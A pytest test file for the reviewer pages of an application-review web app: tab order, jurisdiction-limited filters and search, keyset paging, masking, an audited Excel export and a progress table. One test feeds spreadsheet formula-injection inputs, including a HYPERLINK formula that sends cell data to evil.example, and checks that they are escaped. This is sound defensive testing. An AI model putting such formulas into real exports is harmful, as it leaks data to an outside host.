"""The reviewer's list (status tabs, filters, search, keyset pages, masking, capped count), the
Excel export and the progress page."""
import html
import io
import re
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from domain import review_queue
from domain.id_numbers import mask
from domain.phones import mask as mask_phone
from domain.review_workbook import HEADER
from extensions import db
from models import Application, ApplicationStatus, Region, RegionLevel, Role
from tests.factories import audit_rows, make_application, make_applications, staff_client
from tests.helpers import full_export

BASE = datetime(2025, 3, 1, 2, 0, 0)     # UTC, naive, as stored: 10:00 in Kunming


def text(response) -> str:
    return response.get_data(as_text=True)


def listed(page: str) -> list[int]:
    return [int(i) for i in re.findall(r'href="/review/(\d+)[?"]', page)]


def pager(page: str) -> dict[str, str]:
    links = {}
    for href, label in re.findall(r'<a class="button button--secondary" href="([^"]+)">(上一页|下一页)</a>',
                                  page):
        links[label] = html.unescape(href)
    return links


def count_line(page: str) -> str:
    return re.search(r'<p class="results__count">(.*?)</p>', page).group(1)


def options(page: str, name: str) -> list[str]:
    select = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', page, re.S).group(1)
    return re.findall(r'<option[^>]*value="([^"]*)"', select)


def many(app, count, county="530102", status=ApplicationStatus.PENDING, **kwargs) -> list[int]:
    """`count` applications submitted a minute apart, two at a time (equal submission times are
    ordered by id); ids oldest first."""
    return [p.application_id for p in make_applications(app, count, county, status, start=BASE,
                                                        pairs=True, **kwargs)]


@pytest.fixture
def county_reviewer(app):
    return staff_client(app, Role.REVIEWER, "530102")[0]


@pytest.fixture
def prefecture_reviewer(app):
    return staff_client(app, Role.REVIEWER, "530100")[0]


# -- tabs and order ------------------------------------------------------------------------------

def test_tabs_pending_first_oldest_first(app, county_reviewer):
    late = make_application(app, submitted_at=BASE + timedelta(days=2), name="晚提交")
    early = make_application(app, submitted_at=BASE, name="早提交")
    middle = make_application(app, submitted_at=BASE + timedelta(days=1), name="中提交")
    rejected = make_application(app, status=ApplicationStatus.REJECTED, submitted_at=BASE,
                                name="被退回")
    approved_old = make_application(app, status=ApplicationStatus.APPROVED, submitted_at=BASE,
                                    name="老通过")
    approved_new = make_application(app, status=ApplicationStatus.APPROVED,
                                    submitted_at=BASE + timedelta(days=3), name="新通过")
    page = text(county_reviewer.get("/review"))
    tabs = re.findall(r'<a class="tabs__tab" href="/review\?status=(\w+)"( aria-current="page")?>(.+?)</a>',
                      page)
    assert [(key, label) for key, _current, label in tabs] == [
        ("pending", "待审核"), ("rejected", "审核失败"), ("approved", "审核成功")]
    assert tabs[0][1]           # 待审核 is the tab shown first
    assert listed(page) == [early.application_id, middle.application_id, late.application_id]
    assert count_line(page) == "共 3 条"

    page = text(county_reviewer.get("/review?status=rejected"))
    assert listed(page) == [rejected.application_id]
    assert 'href="/review?status=rejected" aria-current="page"' in page
    # decided ones: the latest decisions first
    page = text(county_reviewer.get("/review?status=approved"))
    assert listed(page) == [approved_new.application_id, approved_old.application_id]
    # an unknown status shows the pending tab; a draft is never listed
    make_application(app, status=ApplicationStatus.DRAFT, name="未提交")
    page = text(county_reviewer.get("/review?status=draft"))
    assert listed(page) == [early.application_id, middle.application_id, late.application_id]
    assert "未提交" not in re.search(r'<div id="results">.*', page, re.S).group(0)


# -- filters and search --------------------------------------------------------------------------

def test_county_filter_offers_only_counties_inside_the_jurisdiction(app, prefecture_reviewer,
                                                                     county_reviewer):
    wuhua = make_application(app, "530102", submitted_at=BASE)
    panlong = make_application(app, "530103", submitted_at=BASE + timedelta(minutes=1))
    guandu = make_application(app, "530111", submitted_at=BASE + timedelta(minutes=2))
    qilin = make_application(app, "530302", submitted_at=BASE)          # 曲靖市麒麟区

    page = text(prefecture_reviewer.get("/review"))
    with app.app_context():
        kunming = list(db.session.scalars(sa.select(Region.code).where(
            Region.parent_code == "530100").order_by(Region.code)))
        db.session.remove()
    assert options(page, "county") == [""] + kunming
    assert "530302" not in options(page, "county")
    assert listed(page) == [wuhua.application_id, panlong.application_id, guandu.application_id]

    page = text(prefecture_reviewer.get("/review?county=530103"))
    assert listed(page) == [panlong.application_id]
    assert re.search(r'<option selected value="530103"|<option value="530103" selected', page)
    # a county outside the jurisdiction is ignored, not obeyed
    page = text(prefecture_reviewer.get("/review?county=530302"))
    assert listed(page) == [wuhua.application_id, panlong.application_id, guandu.application_id]
    assert qilin.application_id not in listed(page)

    page = text(county_reviewer.get("/review"))
    assert options(page, "county") == ["", "530102"]
    assert listed(text(county_reviewer.get("/review?county=530103"))) == [wuhua.application_id]


def test_filter_by_submission_date_in_local_time(app, county_reviewer):
    # 2025-03-01 10:00, 2025-03-02 23:30 and 2025-03-03 00:30 in Kunming (UTC+8)
    first = make_application(app, submitted_at=datetime(2025, 3, 1, 2, 0))
    second = make_application(app, submitted_at=datetime(2025, 3, 2, 15, 30))
    third = make_application(app, submitted_at=datetime(2025, 3, 2, 16, 30))
    ids = lambda query: listed(text(county_reviewer.get("/review", query_string=query)))  # noqa
    assert ids({"date_from": "2025-03-02", "date_to": "2025-03-02"}) == [second.application_id]
    assert ids({"date_from": "2025-03-02"}) == [second.application_id, third.application_id]
    assert ids({"date_to": "2025-03-02"}) == [first.application_id, second.application_id]
    assert ids({"date_from": "2025-03-03", "date_to": "2025-03-03"}) == [third.application_id]
    assert ids({"date_from": "2025-03-04"}) == []
    # a date that cannot be read is not applied
    response = county_reviewer.get("/review", query_string={"date_from": "2025-13-45"})
    assert response.status_code == 200
    assert listed(text(response)) == [first.application_id, second.application_id,
                                      third.application_id]


def test_search_by_name_full_id_number_or_phone(app, county_reviewer):
    target = make_application(app, submitted_at=BASE, name="赵搜索", phone="13812345678")
    others = [make_application(app, submitted_at=BASE + timedelta(minutes=i), name="钱其他")
              for i in range(1, 3)]
    elsewhere = make_application(app, "530103", submitted_at=BASE, name="赵搜索")
    ids = lambda q: listed(text(county_reviewer.get("/review", query_string={"q": q})))  # noqa
    assert ids("赵搜索") == [target.application_id]
    assert ids(" 赵搜索 ") == [target.application_id]
    assert ids(target.id_number) == [target.application_id]
    spaced = f"{target.id_number[:6]} {target.id_number[6:14]} {target.id_number[14:]}"
    assert ids(spaced) == [target.application_id]
    assert ids("13812345678") == [target.application_id]
    assert ids("钱其他") == [o.application_id for o in others]
    # only whole values: no partial matches that would let a list be trawled
    assert ids("赵") == []
    assert ids(target.id_number[:10]) == []
    assert ids(target.id_number[-4:]) == []
    assert ids("1381234") == []
    # and never outside the jurisdiction
    assert ids(elsewhere.id_number) == []
    # search applies within the tab
    page = text(county_reviewer.get("/review", query_string={"q": "赵搜索",
                                                            "status": "approved"}))
    assert listed(page) == []


# -- pages ---------------------------------------------------------------------------------------

def test_fifty_a_page_with_keyset_pages_forward_and_back(app, county_reviewer):
    ids = many(app, 120)
    make_application(app, "530103", submitted_at=BASE)    # another county: never in the pages
    assert review_queue.PAGE_SIZE == 50

    page1 = text(county_reviewer.get("/review"))
    assert listed(page1) == ids[:50]
    assert count_line(page1) == "共 120 条"
    assert set(pager(page1)) == {"下一页"}

    page2 = text(county_reviewer.get(pager(page1)["下一页"]))
    assert listed(page2) == ids[50:100]
    assert not set(listed(page1)) & set(listed(page2))
    assert set(pager(page2)) == {"上一页", "下一页"}

    page3 = text(county_reviewer.get(pager(page2)["下一页"]))
    assert listed(page3) == ids[100:]
    assert set(pager(page3)) == {"上一页"}

    back2 = text(county_reviewer.get(pager(page3)["上一页"]))
    assert listed(back2) == ids[50:100]
    back1 = text(county_reviewer.get(pager(back2)["上一页"]))
    assert listed(back1) == ids[:50]
    assert set(pager(back1)) == {"下一页"}
    # an HTMX page is the results block alone
    response = county_reviewer.get(pager(page1)["下一页"], headers={"HX-Request": "true"})
    fragment = text(response)
    assert fragment.lstrip().startswith('<div id="results">') and listed(fragment) == ids[50:100]


def test_pages_of_a_decided_tab_newest_first(app, county_reviewer):
    ids = many(app, 60, status=ApplicationStatus.APPROVED)
    newest_first = sorted(ids, key=lambda i: (ids.index(i) // 2, i), reverse=True)
    page1 = text(county_reviewer.get("/review?status=approved"))
    assert listed(page1) == newest_first[:50]
    page2 = text(county_reviewer.get(pager(page1)["下一页"]))
    assert listed(page2) == newest_first[50:]
    assert set(pager(page2)) == {"上一页"}
    back = text(county_reviewer.get(pager(page2)["上一页"]))
    assert listed(back) == newest_first[:50]


def test_pages_keep_the_filters(app, prefecture_reviewer):
    panlong = many(app, 55, "530103")
    many(app, 10, "530102")
    page1 = text(prefecture_reviewer.get("/review?county=530103"))
    assert listed(page1) == panlong[:50]
    link = pager(page1)["下一页"]
    assert "county=530103" in link and "status=pending" in link
    page2 = text(prefecture_reviewer.get(link))
    assert listed(page2) == panlong[50:]
    assert count_line(page2) == "共 55 条"


def test_a_forged_cursor_is_ignored(app, county_reviewer):
    ids = many(app, 3)
    for cursor in ("nonsense", "2025-03-01_x", "_", ""):
        response = county_reviewer.get("/review", query_string={"after": cursor})
        assert response.status_code == 200 and listed(text(response)) == ids


# -- masking and the count -----------------------------------------------------------------------

def test_id_numbers_and_phones_are_masked_in_the_list(app, county_reviewer):
    people = [make_application(app, submitted_at=BASE + timedelta(minutes=i)) for i in range(3)]
    page = text(county_reviewer.get("/review"))
    for person in people:
        assert re.fullmatch(r"530102\*{8}[0-9X]{4}", mask(person.id_number))
        assert mask(person.id_number) in page
        assert re.fullmatch(r"1\d\d\*{4}\d{4}", mask_phone(person.phone))
        assert mask_phone(person.phone) in page
        assert person.id_number not in page and person.phone not in page
        assert person.id_number[6:14] not in page          # not even the birth date


def test_the_count_stops_at_the_cap(app, county_reviewer, monkeypatch):
    many(app, 8)
    assert review_queue.COUNT_CAP == 10_000
    assert count_line(text(county_reviewer.get("/review"))) == "共 8 条"
    monkeypatch.setattr(review_queue, "COUNT_CAP", 5)
    page = text(county_reviewer.get("/review"))
    assert count_line(page) == "共 5+ 条"
    assert len(listed(page)) == 8
    monkeypatch.setattr(review_queue, "COUNT_CAP", 8)
    assert count_line(text(county_reviewer.get("/review"))) == "共 8 条"
    monkeypatch.setattr(review_queue, "COUNT_CAP", 7)
    assert count_line(text(county_reviewer.get("/review"))) == "共 7+ 条"


# -- export --------------------------------------------------------------------------------------

def workbook_rows(response) -> list[list]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.data[:2] == b"PK"
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.title == "审核列表"
    return [list(row) for row in sheet.iter_rows()]


def test_export_is_the_filtered_list(app, prefecture_reviewer):
    wuhua = many(app, 4, "530102")
    panlong = make_application(app, "530103", submitted_at=BASE, name="孙盘龙",
                               phone="13912345678")
    make_application(app, "530102", ApplicationStatus.APPROVED, submitted_at=BASE)
    make_application(app, "530302", submitted_at=BASE)             # outside: never exported

    rows = workbook_rows(prefecture_reviewer.get("/review/export.xlsx"))
    assert [cell.value for cell in rows[0]] == HEADER
    assert len(rows) == 1 + 5
    rows = workbook_rows(full_export(prefecture_reviewer, county="530103"))
    assert len(rows) == 2
    name, id_type, id_number, phone, bureau, status, submitted, unit, kind = rows[1]
    assert name.value == "孙盘龙" and id_type.value == "居民身份证"
    assert id_number.value == panlong.id_number and id_number.data_type == "s"
    assert phone.value == "13912345678" and phone.data_type == "s"
    assert bureau.value == "盘龙区财政局" and status.value == "审核中"
    assert submitted.value == "2025-03-01 10:00"
    assert unit.value == "云南某某会计服务有限公司" and kind.value == "首次采集"
    rows = workbook_rows(prefecture_reviewer.get("/review/export.xlsx?status=approved"))
    assert len(rows) == 2 and rows[1][5].value == "审核成功"
    rows = workbook_rows(full_export(prefecture_reviewer, q=panlong.id_number))
    assert [r[2].value for r in rows[1:]] == [panlong.id_number]
    rows = workbook_rows(prefecture_reviewer.get("/review/export.xlsx?county=530102"))
    assert len(rows) == 1 + len(wuhua)


def test_export_every_row_of_a_long_list(app, county_reviewer):
    ids = many(app, 120)
    rows = workbook_rows(full_export(county_reviewer))
    assert len(rows) == 121
    with app.app_context():
        expected = [db.session.get(Application, i).account.id_number for i in ids]
        db.session.remove()
    assert [r[2].value for r in rows[1:]] == expected
    assert all(r[2].data_type == "s" for r in rows[1:])


def test_keyset_batches_of_the_export_cover_every_row_once(app):
    ids = many(app, 23)
    with app.app_context():
        region = db.session.get(Region, "530102")
        got = [a.id for a in review_queue.all_rows(region, review_queue.ListFilter(), batch=5)]
        db.session.remove()
    assert got == ids


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(1,1)",
    "=1+1", "\t=1+1",
])
def test_formula_text_is_escaped(app, county_reviewer, hostile):
    person = make_application(app, submitted_at=BASE, name=hostile, unit_name=hostile)
    rows = workbook_rows(full_export(county_reviewer))
    name, unit = rows[1][0], rows[1][7]
    for cell in (name, unit):
        assert cell.data_type != "f", cell.value
        assert cell.value == "'" + hostile
    assert rows[1][2].value == person.id_number


def test_export_is_audit_logged(app, county_reviewer):
    make_application(app, submitted_at=BASE)
    county_reviewer.get("/review/export.xlsx?status=pending&county=530102&q=张三")
    [entry] = audit_rows(app, "review.export")
    assert entry.actor.startswith("reviewer:530102")
    assert '"county": "530102"' in entry.details and '"status": "pending"' in entry.details
    assert '"query": true' in entry.details and "张三" not in entry.details
    assert '"rows": 1' in entry.details and '"full": false' in entry.details


def test_the_export_is_masked_unless_asked_for_in_full_with_a_reason(app, county_reviewer):
    person = make_application(app, submitted_at=BASE, phone="13912345678")
    rows = workbook_rows(county_reviewer.get("/review/export.xlsx"))
    assert rows[1][2].value == mask(person.id_number) and rows[1][3].value == "139****5678"
    # a full export without a reason is refused, and nothing is exported
    refused = county_reviewer.post("/review/export.xlsx", data={"full": "y", "reason": " "})
    assert refused.status_code == 303
    assert "请填写原因" in county_reviewer.get(refused.headers["Location"]).get_data(
        as_text=True)
    rows = workbook_rows(county_reviewer.post("/review/export.xlsx", data={
        "full": "y", "reason": "报送省财政厅复核名单"}))
    assert rows[1][2].value == person.id_number and rows[1][3].value == "13912345678"
    full = [e for e in audit_rows(app, "review.export") if '"full": true' in e.details]
    assert len(full) == 1
    assert '"reason": "报送省财政厅复核名单"' in full[0].details and '"rows": 1' in full[0].details


# -- progress ------------------------------------------------------------------------------------

def progress_table(page: str) -> dict[str, list[int]]:
    body = re.search(r"<tbody>(.*?)</tbody>", page, re.S).group(1)
    table = {}
    for row in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        cells = re.findall(r"<td>(.*?)</td>", row)
        table[cells[0]] = [int(c) for c in cells[1:]]
    return table


def db_counts(app, column) -> dict[tuple[str, str], int]:
    with app.app_context():
        rows = db.session.execute(sa.select(column, Application.status, sa.func.count())
                                  .group_by(column, Application.status)).all()
        db.session.remove()
    return {(code, status): n for code, status, n in rows}


@pytest.fixture
def spread(app):
    plan = [("530102", ApplicationStatus.PENDING, 3), ("530102", ApplicationStatus.APPROVED, 2),
            ("530102", ApplicationStatus.REJECTED, 1), ("530102", ApplicationStatus.DRAFT, 1),
            ("530103", ApplicationStatus.PENDING, 1), ("530181", ApplicationStatus.APPROVED, 1),
            ("530302", ApplicationStatus.PENDING, 2), ("532502", ApplicationStatus.REJECTED, 1)]
    for county, status, count in plan:
        for _ in range(count):
            make_application(app, county, status,
                             submitted_at=None if status == ApplicationStatus.DRAFT else BASE)
    make_application(app, complete=False, status=ApplicationStatus.DRAFT)  # no 属地 yet


COLUMNS = ["draft", "pending", "rejected", "approved"]      # the table's order


def test_progress_per_county_for_a_prefecture(app, prefecture_reviewer, spread):
    page = text(prefecture_reviewer.get("/review/progress"))
    assert re.search(r"<thead><tr><th[^>]*>地区</th><th[^>]*>未提交</th><th[^>]*>待审核</th>"
                     r"<th[^>]*>审核失败</th><th[^>]*>审核成功</th></tr></thead>", page)
    table = progress_table(page)
    with app.app_context():
        kunming = dict(db.session.execute(sa.select(Region.name, Region.code).where(
            Region.parent_code == "530100")).all())
        db.session.remove()
    assert set(table) == set(kunming)
    counts = db_counts(app, Application.jurisdiction_code)
    for name, code in kunming.items():
        assert table[name] == [counts.get((code, s), 0) for s in COLUMNS], name
    assert table["五华区"] == [1, 3, 1, 2]
    assert table["盘龙区"] == [0, 1, 0, 0]
    assert table["安宁市"] == [0, 0, 0, 1]
    assert table["官渡区"] == [0, 0, 0, 0]
    # the chart: an inline SVG with one labelled bar per county and the counts in titles
    svg = re.search(r"<svg.*?</svg>", page, re.S).group(0)
    assert 'role="img"' in svg
    assert len(re.findall(r'<text [^>]*class="chart__label">', svg)) == len(kunming)
    assert ">五华区</text>" in svg
    bars = re.findall(r'class="chart__bar chart__bar--(\w+)"><title>(\d+)</title>', svg)
    assert sorted(bars) == sorted([("approved", "2"), ("pending", "3"), ("rejected", "1"),
                                   ("pending", "1"), ("approved", "1")])


def test_progress_per_prefecture_for_the_province(app, spread):
    client, _reviewer = staff_client(app, Role.REVIEWER, "530000")
    table = progress_table(text(client.get("/review/progress")))
    with app.app_context():
        prefectures = dict(db.session.execute(sa.select(Region.name, Region.code).where(
            Region.level == RegionLevel.PREFECTURE)).all())
        db.session.remove()
    assert len(prefectures) == 16 and set(table) == set(prefectures)
    counts = db_counts(app, Application.prefecture_code)
    for name, code in prefectures.items():
        assert table[name] == [counts.get((code, s), 0) for s in COLUMNS], name
    assert table["昆明市"] == [1, 4, 1, 3]
    assert table["曲靖市"] == [0, 2, 0, 0]
    assert table["红河哈尼族彝族自治州"] == [0, 0, 1, 0]


def test_progress_of_a_county(app, county_reviewer, spread):
    table = progress_table(text(county_reviewer.get("/review/progress")))
    assert table == {"五华区": [1, 3, 1, 2]}


def test_progress_with_nothing_yet(app, county_reviewer):
    page = text(county_reviewer.get("/review/progress"))
    assert progress_table(page) == {"五华区": [0, 0, 0, 0]}
    assert "<svg" in page
